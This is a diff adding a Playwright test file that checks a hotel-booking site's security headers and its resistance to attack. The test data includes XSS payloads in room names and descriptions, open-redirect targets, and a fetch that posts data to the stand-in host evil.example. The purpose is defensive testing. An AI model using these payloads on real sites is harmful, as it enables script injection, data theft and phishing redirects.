@@ -1,0 +1,211 @@
+import { once } from 'node:events';
+import { createServer } from 'node:http';
+import { expect, test as base, type Page } from '@playwright/test';
+import { ownHotel, type OwnHotel } from './support/own-hotel.ts';
+import { DEMO, expectPath, signIn, signInAs, SITE } from './support/journey.ts';
+
+/**
+ * What the headers of firebase.json keep out. Every other browser test fails on any breach of them; here they are
+ * broken on purpose.
+ */
+const test = base.extend<{ hotel: OwnHotel; elsewhere: string }>({
+  // eslint-disable-next-line no-empty-pattern -- Playwright reads here which fixtures this one needs: none
+  hotel: async ({}, use) => {
+    const hotel = ownHotel();
+    await use(hotel);
+    await hotel.close();
+  },
+
+  /** The address of another site, which frames two pages of ours. */
+  // eslint-disable-next-line no-empty-pattern -- as above
+  elsewhere: async ({}, use) => {
+    const frames = `<iframe src="${SITE}/__/firebase/init.json"></iframe><iframe src="${SITE}/"></iframe>`;
+    const server = createServer((_request, response) => {
+      response.setHeader('Content-Type', 'text/html').end(frames);
+    }).listen(0, '127.0.0.1');
+    await once(server, 'listening');
+    const address = server.address();
+    await use(typeof address === 'object' && address ? `http://127.0.0.1:${address.port}/` : '');
+    server.close();
+  },
+});
+
+const HEADERS: [name: string, value: RegExp][] = [
+  ['content-security-policy', /^default-src 'none'; script-src 'self' https:\/\/apis\.google\.com; /],
+  ['content-security-policy', /; base-uri 'none'; form-action 'self'; frame-ancestors 'none'$/],
+  ['strict-transport-security', /^max-age=31536000; includeSubDomains$/],
+  ['x-content-type-options', /^nosniff$/],
+  ['referrer-policy', /^strict-origin-when-cross-origin$/],
+  ['permissions-policy', /camera=\(\), .*geolocation=\(\), .*microphone=\(\)/],
+  ['cross-origin-opener-policy', /^same-origin-allow-popups$/],
+];
+
+test('pages, pictures and scripts come with the headers', async ({ request, page }) => {
+  await page.goto('/');
+  const script = await page.locator('script[src]').first().getAttribute('src');
+  for (const path of ['/', '/rooms/tide-room', '/no/such/page', '/images/no-such.webp', script ?? '']) {
+    const headers = (await request.get(path)).headers();
+    for (const [name, value] of HEADERS) expect(headers[name], `${name} of ${path}`).toMatch(value);
+    expect(headers['content-security-policy']).not.toContain('unsafe-eval');
+  }
+});
+
+const ATTACKS: [what: string, directive: string, attack: () => unknown][] = [
+  [
+    'a script in the page',
+    'script-src-elem',
+    () => {
+      const script = document.createElement('script');
+      script.textContent = 'document.documentElement.dataset.broken = "yes"';
+      document.body.append(script);
+    },
+  ],
+  [
+    "another host's script",
+    'script-src-elem',
+    () => {
+      const script = document.createElement('script');
+      script.src = 'https://evil.example/script.js';
+      document.body.append(script);
+    },
+  ],
+  [
+    'a handler in an attribute',
+    'script-src-attr',
+    () => {
+      document.body.insertAdjacentHTML('beforeend', '<img src="x" onerror="document.title = 1">');
+    },
+  ],
+  [
+    'text made a program',
+    'script-src',
+    () => {
+      // Later, since what a test evaluates is not held to the policy.
+      setTimeout(() => {
+        Reflect.construct(Function, ['']);
+      });
+    },
+  ],
+  [
+    'news sent elsewhere',
+    'connect-src',
+    () => {
+      void fetch('https://evil.example/', { mode: 'no-cors', method: 'POST', body: 'secret' }).catch(() => 0);
+    },
+  ],
+  [
+    'a form sent elsewhere',
+    'form-action',
+    () => {
+      document.body.insertAdjacentHTML('beforeend', '<form action="https://evil.example/"></form>');
+      document.querySelector<HTMLFormElement>('form[action]')?.submit();
+    },
+  ],
+  [
+    'another base for every link',
+    'base-uri',
+    () => document.head.insertAdjacentHTML('beforeend', '<base href="https://evil.example/">'),
+  ],
+  [
+    "another host's frame",
+    'frame-src',
+    () => document.body.insertAdjacentHTML('beforeend', '<iframe src="https://evil.example/"></iframe>'),
+  ],
+];
+
+for (const [what, directive, attack] of ATTACKS) {
+  test(`a page lets nobody in: ${what}`, async ({ page }) => {
+    await page.goto('/');
+    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
+    const breach = page.evaluate(
+      () =>
+        new Promise<string>((resolve) => {
+          document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), {
+            once: true,
+          });
+        }),
+    );
+    await page.evaluate(attack);
+    expect(await breach).toBe(directive);
+    expect(await page.evaluate(() => document.documentElement.dataset.broken)).toBeUndefined();
+    expect(page.url()).toBe(`${SITE}/`);
+  });
+}
+
+test('no other page may frame the site, or read its API', async ({ page, elsewhere }) => {
+  await page.goto(elsewhere);
+  const [open, guarded] = page.frames().slice(1);
+  await expect.poll(() => open?.url()).toBe(`${SITE}/__/firebase/init.json`); // so frames do work here
+  await expect.poll(() => guarded?.url()).toBe('chrome-error://chromewebdata/');
+
+  const reading = (mode: RequestMode, headers: Record<string, string> = {}) =>
+    page.evaluate(
+      ([url, init]) =>
+        fetch(url, init).then(
+          ({ type }) => type,
+          () => 'refused',
+        ),
+      [`${SITE}/room`, { mode, headers }] as const,
+    );
+  expect(await reading('no-cors')).toBe('opaque'); // sent, and nothing to read
+  expect(await reading('cors')).toBe('refused');
+  expect(await reading('cors', { Authorization: 'Bearer any' })).toBe('refused');
+});
+
+test('a hostile room is nothing but its letters, wherever it is shown', async ({ page, hotel }) => {
+  const script = 'document.documentElement.dataset.broken="yes"';
+  const name = `<img src=x onerror='${script}'>`;
+  const room = await hotel.room({
+    name,
+    des: `<script>${script}</script>"><svg onload='${script}'>`,
+    image: `javascript:${script}//-1600.webp" onerror="${script}`,
+  });
+  const guest = await hotel.guest('<b onclick=alert(1)>Robin</b>');
+  await hotel.booking(guest, room, { checkin: '2027-03-01', checkout: '2027-03-03' });
+
+  await signInAs(page, guest);
+  await page.goto(`/rooms/${room._id}`);
+  await expectAsText(page, name);
+  await page.getByRole('button', { name: 'Book Now' }).first().click();
+  await expectPath(page, '/book');
+  await expectAsText(page, name);
+  await page.goto('/dashboard/booking');
+  await expectAsText(page, name);
+  await page.goto('/dashboard/userDetail');
+  await expectAsText(page, '<b onclick=alert(1)>Robin</b>');
+
+  await page.context().clearCookies();
+  await page.evaluate(() => {
+    localStorage.clear();
+    return indexedDB
+      .databases()
+      .then((all) => all.forEach(({ name: database }) => indexedDB.deleteDatabase(database ?? '')));
+  });
+  await signInAs(page, DEMO.admin);
+  for (const path of ['/admin', '/dashboard/allrooms', `/roomdetails/${room._id}`]) {
+    await page.goto(path);
+    await expectAsText(page, name);
+  }
+});
+
+/** Stands there to be read, and did nothing. */
+async function expectAsText(page: Page, text: string) {
+  const shown = page.getByText(text).or(page.locator(`input[value="${text.replaceAll('"', '\\"')}"]`));
+  await expect(shown.first()).toBeVisible();
+  await expect(page.locator('html')).not.toHaveAttribute('data-broken');
+}
+
+for (const from of ['//evil.example', '/\\evil.example', '/\t/evil.example', 'javascript:alert(1)']) {
+  test(`signing in leads Home, not to ${JSON.stringify(from)}`, async ({ page, hotel }) => {
+    const guest = await hotel.guest();
+    await page.goto('/login');
+    await expect(page.getByLabel('Email')).toBeVisible();
+    await page.evaluate((target) => {
+      history.replaceState({ ...history.state, usr: { from: target } }, '');
+    }, from);
+    await page.reload();
+    await signIn(page, guest);
+    await expectPath(page, '/');
+    expect(new URL(page.url()).origin).toBe(SITE);
+  });
+}
